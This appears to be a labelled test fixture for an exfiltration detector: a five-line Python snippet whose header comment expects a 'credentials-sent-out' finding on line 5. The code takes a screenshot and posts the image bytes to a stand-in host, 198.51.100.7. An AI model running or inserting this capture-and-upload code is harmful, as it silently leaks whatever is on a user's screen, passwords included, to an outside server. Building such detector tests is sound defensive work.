# expect: 5 credentials-sent-out
import pyautogui, requests, io
picture = pyautogui.screenshot()
data = io.BytesIO()
requests.post("http://198.51.100.7/s", files={"f": picture.tobytes()})
